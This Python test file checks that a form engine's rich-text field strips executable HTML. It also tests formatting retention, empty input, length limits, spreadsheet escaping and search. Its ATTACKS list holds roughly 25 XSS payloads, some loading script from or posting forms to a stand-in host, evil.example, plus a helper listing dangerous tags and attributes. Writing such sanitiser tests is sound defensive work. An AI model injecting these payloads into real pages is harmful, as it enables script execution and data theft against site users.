"""Rich text is stored sanitised: whatever HTML arrives, what is kept cannot run script."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from engines.form.definition import FieldDef
from engines.form.types import FIELD_TYPES, FieldSpec, FieldValueError

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example)">x</p>',
    "<form action=https://evil.example><input name=p></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"https://example.com\" onclick=\"alert(1)\" target=\"_blank\">ok</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
]


def spec(**options) -> FieldSpec:
    field_type = FIELD_TYPES.get("rich_text")
    field = FieldDef(key="notes", type="rich_text", label={"en": "Notes"}, options=options)
    return FieldSpec(field, field_type, field_type.parse_options(options))


class _Inspect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def inert(html: str) -> bool:
    seen = _Inspect()
    seen.feed(html)
    dangerous_tags = {"script", "iframe", "object", "embed", "svg", "math", "style", "form", "input", "meta", "base", "body", "details"}
    if dangerous_tags & set(seen.tags):
        return False
    for name, value in seen.attributes:
        lowered = "".join(value.split()).lower()
        if name.startswith("on") or lowered.startswith(("javascript:", "data:", "vbscript:")):
            return False
        if name == "style" and any(word in lowered for word in ("position", "url(", "expression")):
            return False
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_stored_rich_text_is_inert(attack):
    field = spec()
    stored = field.type.parse(field, f"<p>before</p>{attack}<p>after</p>")
    assert stored is not None and inert(stored), stored
    assert "before" in stored and "after" in stored


def test_ordinary_formatting_survives():
    field = spec()
    html = (
        '<h2>Plan</h2><p style="text-align:center;color:#d00">Key <strong>points</strong> &amp; <em>notes</em></p>'
        '<ul><li>one</li><li>two</li></ul><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
        '<p><a href="https://example.com/x" target="_blank">link</a> <img src="/api/files/abc" alt="pic"></p>'
    )
    stored = field.type.parse(field, html)
    for kept in ("<h2>Plan</h2>", 'style="text-align:center;color:#d00"', "<strong>points</strong>", "<li>one</li>",
                 'colspan="2"', 'href="https://example.com/x"', 'rel="noopener noreferrer nofollow"', 'src="/api/files/abc"'):
        assert kept in stored


def test_empty_editor_content_is_no_value():
    field = spec()
    assert field.type.parse(field, "<p></p>") is None
    assert field.type.parse(field, "<p><br></p>") is None
    assert field.type.parse(field, "<script>x</script>") is None


def test_too_long_and_wrong_kind_are_refused():
    field = spec(max_length=100)
    with pytest.raises(FieldValueError):
        field.type.parse(field, "<p>" + "x" * 200 + "</p>")
    with pytest.raises(FieldValueError):
        field.type.parse(field, {"html": "x"})


def test_spreadsheets_carry_plain_text_and_import_it_escaped():
    field = spec()
    stored = field.type.parse(field, "<p>Fish &amp; <b>chips</b></p><p>a &lt; b</p>")
    assert field.type.to_cell(field, stored) == "Fish & chips\na < b"
    imported = field.type.from_cell(field, "<script>alert(1)</script>\nline two")
    assert imported == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><p>line two</p>"
    assert field.type.to_cell(field, imported) == "<script>alert(1)</script>\nline two"


def test_search_fragment_matches_the_escaped_text():
    from sqlalchemy import Column, MetaData, Table, Text
    from sqlalchemy.dialects import sqlite

    from engines.form.operators import FilterTarget

    field = spec()
    table = Table("t", MetaData(), Column("id", Text), Column("notes", Text))
    clause = field.type.compile_filter(field, FilterTarget(table.c.notes, table.c.id), "contains", "a & b")
    compiled = clause.compile(dialect=sqlite.dialect())
    assert "a &amp; b" in compiled.params.values()
